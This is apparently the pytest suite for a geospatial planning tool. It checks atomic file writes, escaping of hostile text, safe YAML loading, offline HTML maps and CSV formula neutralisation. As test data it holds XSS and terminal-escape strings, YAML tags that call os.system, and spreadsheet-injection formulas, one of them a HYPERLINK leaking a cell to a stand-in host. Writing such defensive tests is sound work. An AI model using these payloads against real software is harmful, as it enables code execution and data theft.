"""Output safety (issue 9): atomic writes, no clobbering, escaping, safe YAML, offline maps.

- ``write_text_atomic``: an error at any point leaves the old file and no temporary file;
- ``-o FILE``: a failing command never touches FILE;
- user text is inert in Markdown (``to_markdown``) and on a terminal (``to_text``,
  ``sandan-geo show``): no HTML, no table breaking, no control or escape characters;
- YAML is loaded safely: Python tags are refused and run nothing;
- an offline map (``plan_map(..., offline=True)``) loads nothing from the network:
  no http(s) URL in any ``src``/``href`` attribute or CSS ``url()``, and no socket
  is opened while it is built and written.
"""

from __future__ import annotations

import os
import re
import socket
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

import sandan_geo as sg
from sandan_geo import _io
from sandan_geo.cli import cli

CORPUS = Path(__file__).parent / "corpus"
HOSTILE_PLAN = CORPUS / "plan" / "hostile-text.yaml"

# C0 and C1 control characters except newline, and bidi overrides/isolates.
_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_plan(*, newline: bool = False) -> sg.Plan:
    """A plan whose every text field carries HTML, Markdown, ANSI and bidi tricks."""
    nl = (
        "\n  pass  max_distance           fake -> fake: 0.000 km <= 7.5 km\n| x |"
        if newline
        else ""
    )
    evil = "<script>alert(1)</script> | **b** [a](http://example.invalid) `c` \x1b[2J\x1b[31m\x07\x9b1m\u202e"
    return sg.load_plan(
        {
            "id": "hostile",
            "name": "계획 " + evil + nl,
            "rules": "daegu",
            "sites": [
                {
                    "key": "hub1",
                    "name": "거점 <img src=http://example.invalid/x.png onerror=alert(1)>" + nl,
                    "role": "hub",
                    "lon": 128.50,
                    "lat": 35.84,
                },
                {
                    "key": "l1",
                    "name": "연계 " + evil,
                    "role": "linked_complex",
                    "lon": 128.55,
                    "lat": 35.88,
                    "function": "공급 " + evil,
                },
            ],
            "links": [{"from": "hub1", "to": "l1", "relation": "부품 " + evil + nl}],
        }
    )


# --------------------------------------------------------------------------- atomic writes


def _folder_listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_atomic_write_replaces_the_file_and_keeps_its_mode(tmp_path):
    target = tmp_path / "report.md"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    _io.write_text_atomic(target, "새 내용\n")
    assert target.read_text(encoding="utf-8") == "새 내용\n"
    assert target.stat().st_mode & 0o777 == 0o640
    assert _folder_listing(tmp_path) == ["report.md"]


@pytest.mark.parametrize(
    ("where", "exc"),
    [
        ("fsync", OSError(28, "No space left on device")),
        ("replace", PermissionError(13, "Permission denied")),
        ("fsync", KeyboardInterrupt()),
    ],
    ids=["disk-full", "rename-refused", "interrupted"],
)
def test_an_error_mid_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch, where, exc):
    target = tmp_path / "report.md"
    target.write_text("old\n", encoding="utf-8")

    def fail(*args, **kwargs):
        raise exc

    monkeypatch.setattr(_io.os, where, fail)
    expected = sg.OutputError if isinstance(exc, OSError) else type(exc)
    with pytest.raises(expected):
        _io.write_text_atomic(target, "new\n" * 1000)
    monkeypatch.undo()
    assert target.read_text(encoding="utf-8") == "old\n"
    assert _folder_listing(tmp_path) == ["report.md"]


def test_a_missing_folder_is_an_output_error_and_creates_nothing(tmp_path):
    with pytest.raises(sg.OutputError, match="does not exist"):
        _io.write_text_atomic(tmp_path / "no" / "such" / "report.md", "x")
    assert _folder_listing(tmp_path) == []


def test_a_folder_as_target_is_an_output_error(tmp_path):
    (tmp_path / "out").mkdir()
    with pytest.raises(sg.OutputError, match="is a folder"):
        _io.write_text_atomic(tmp_path / "out", "x")
    assert _folder_listing(tmp_path / "out") == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_is_an_output_error_and_keeps_the_old_file(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    target = folder / "report.md"
    target.write_text("old\n", encoding="utf-8")
    folder.chmod(0o555)
    try:
        with pytest.raises(sg.OutputError, match="cannot write"):
            _io.write_text_atomic(target, "new\n")
    finally:
        folder.chmod(0o755)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert _folder_listing(folder) == ["report.md"]


# --------------------------------------------------------------------------- -o never clobbers


@pytest.mark.parametrize(
    "args",
    [
        ["validate", str(CORPUS / "plan" / "lon-nan.yaml")],
        ["validate", "daegu-2020", "--rules", str(CORPUS / "rules" / "zero-limit.yaml")],
        ["validate", "daegu-2020", "--metric", "euclid"],
        ["show", str(CORPUS / "geojson" / "truncated.geojson"), "--format", "json"],
        ["map", str(CORPUS / "plan" / "billion-laughs.yaml"), "--offline"],
    ],
    ids=["bad-plan", "bad-rules-file", "bad-metric", "show-truncated", "map-alias-bomb"],
)
def test_output_file_is_untouched_when_the_command_fails(tmp_path, args):
    out = tmp_path / "result.out"
    out.write_text("the previous result\n", encoding="utf-8")
    result = CliRunner().invoke(cli, [*args, "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert out.read_text(encoding="utf-8") == "the previous result\n"
    assert _folder_listing(tmp_path) == ["result.out"]


def test_output_file_is_untouched_when_writing_fails(tmp_path, monkeypatch):
    out = tmp_path / "result.md"
    out.write_text("the previous result\n", encoding="utf-8")

    def refuse(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(_io.os, "replace", refuse)
    result = CliRunner().invoke(
        cli, ["validate", "daegu-2020", "--format", "markdown", "-o", str(out)]
    )
    assert result.exit_code == 3, result.output
    assert "No space left on device" in result.stderr
    assert len(result.stderr.splitlines()) == 1
    monkeypatch.undo()
    assert out.read_text(encoding="utf-8") == "the previous result\n"
    assert _folder_listing(tmp_path) == ["result.md"]


# --------------------------------------------------------------------------- escaping


def test_markdown_escapes_html_and_markdown_in_user_text():
    md = sg.to_markdown(sg.check_plan(hostile_plan()))
    for raw in ("<script", "<img", "](http", "**b**", "`c`"):
        assert raw not in md, raw
    assert not _CONTROL.search(md), repr(md)
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    header = rows[0]
    unescaped = re.compile(r"(?<!\\)\|")
    assert all(len(unescaped.findall(r)) == len(unescaped.findall(header)) for r in rows), rows


def test_terminal_text_neutralises_control_escape_and_bidi_characters():
    text = sg.to_text(sg.check_plan(hostile_plan()))
    assert not _CONTROL.search(text), repr(text)
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text


def test_show_prints_no_escape_characters_to_a_terminal():
    result = CliRunner().invoke(cli, ["show", str(HOSTILE_PLAN)], color=True)
    assert result.exit_code == 0, result.output
    assert not _CONTROL.search(result.stdout), repr(result.stdout)


def test_a_newline_in_user_text_cannot_forge_report_lines():
    report = sg.check_plan(hostile_plan(newline=True))
    clean = sg.check_plan(hostile_plan())
    assert len(sg.to_text(report).splitlines()) == len(sg.to_text(clean).splitlines())
    assert len(sg.to_markdown(report).splitlines()) == len(sg.to_markdown(clean).splitlines())


# --------------------------------------------------------------------------- safe YAML


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system ['touch {canary}']",
        "!!python/object/new:os.system ['touch {canary}']",
        "!!python/name:os.system",
        "!!python/object:builtins.object {{}}",
        "!!python/module:os",
    ],
    ids=["apply", "new", "name", "object", "module"],
)
@pytest.mark.parametrize("loader", ["load_plan", "load_rules_file", "load_sites"])
def test_python_yaml_tags_are_refused_and_run_nothing(tmp_path, tag, loader):
    canary = tmp_path / "CANARY"
    path = tmp_path / "evil.yaml"
    text = tag.format(canary=canary)
    body = f"sites: {text}\n" if loader != "load_rules_file" else f"rules: {text}\n"
    path.write_text(body, encoding="utf-8")
    with pytest.raises(sg.SchemaError, match="could not determine a constructor"):
        getattr(sg, loader)(path)
    assert not canary.exists()


# --------------------------------------------------------------------------- offline maps


class _Links(HTMLParser):
    """Collects every URL-valued attribute of every tag, and the text of <style> elements."""

    URL_ATTRS = ("src", "href", "srcset", "data", "action", "poster", "xlink:href", "background")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[tuple[str, str, str]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in self.URL_ATTRS and value:
                self.urls.append((tag, name, value))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


_REMOTE = re.compile(r"^\s*(?:https?:)?//", re.IGNORECASE)


@pytest.fixture
def no_network(monkeypatch):
    """Make any socket connection fail the test."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"network connection attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize(
    "make", [lambda: sg.load_plan("daegu-2020"), hostile_plan], ids=["daegu", "hostile"]
)
def test_offline_map_references_nothing_remote(make, no_network, tmp_path):
    plan = make()
    m = sg.plan_map(plan, report=sg.check_plan(plan), offline=True)
    html = sg.map_html(m)
    parser = _Links()
    parser.feed(html)
    remote = [(tag, attr, url) for tag, attr, url in parser.urls if _REMOTE.match(url)]
    assert remote == []
    css = "\n".join(parser.styles)
    assert not re.search(r"url\(\s*['\"]?\s*(?:https?:)?//", css, re.IGNORECASE)
    assert "@import" not in css
    path = sg.save_map(m, tmp_path / "map.html", offline=True)
    assert path.read_text(encoding="utf-8") == html


def test_online_map_does_reference_tiles_so_the_offline_check_can_fail():
    parser = _Links()
    parser.feed(sg.map_html(sg.plan_map(sg.load_plan("daegu-2020"))))
    assert any(_REMOTE.match(url) for _, _, url in parser.urls)


# --------------------------------------------------------------------------- spreadsheets

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width =
]


def _csv_rows(text: str) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_candidates_and_compare_csv_neutralise_formulas_and_keep_numbers(tmp_path):
    """Text cells a spreadsheet would run get a leading quote; number cells stay numbers."""
    import json

    sites = [{"key": "hub1", "name": "거점산단", "lon": 128.50, "lat": 35.84}]
    sites += [
        {"key": f"s{i}", "name": name, "lon": 128.51 + i / 100, "lat": 35.85}
        for i, name in enumerate(FORMULAS)
    ]
    sites_file = tmp_path / "sites.yaml"
    sites_file.write_text(json.dumps({"sites": sites}, ensure_ascii=False), encoding="utf-8")
    r = CliRunner().invoke(
        cli, ["candidates", "hub1", "--sites", str(sites_file), "--max-km", "50", "--format", "csv"]
    )
    assert r.exit_code == 0, r.output
    rows = {row["key"]: row for row in _csv_rows(r.stdout)}
    assert len(rows) == len(FORMULAS)
    for i, name in enumerate(FORMULAS):
        assert rows[f"s{i}"]["name_ko"] == "'" + name
        assert float(rows[f"s{i}"]["distance_km"]) > 0  # a number, not a quoted text

    plan = {
        "id": "=cmd|' /C calc'!A0",
        "name": "계획",
        "round": -1,
        "announced": "+2020-01-01",
        "sites": [
            {"key": "hub", "name": "거점", "role": "hub", "lon": 128.50, "lat": 35.84},
            {"key": "l1", "name": "연계", "role": "linked_complex", "lon": 128.55, "lat": 35.88},
        ],
    }
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    r = CliRunner().invoke(cli, ["compare", str(plan_file), "daegu-2020", "--format", "csv"])
    assert r.exit_code == 0, r.output
    first, second = _csv_rows(r.stdout)
    assert first["id"] == "'=cmd|' /C calc'!A0" and first["announced"] == "'+2020-01-01"
    assert first["round"] == "-1" and int(first["round"]) == -1  # a negative number stays one
    assert float(first["max_km_centroid"]) > 0
    assert second["id"] == "daegu-2020" and second["hub"] == "seongseo"
    # the loaders strip a leading tab or CR from names; the helper quotes them all the same
    assert [_io.spreadsheet_safe(v) for v in ("\t=1", "\r=1", "-0.85", -0.85, "성서")] == [
        "'\t=1",
        "'\r=1",
        "-0.85",
        -0.85,
        "성서",
    ]
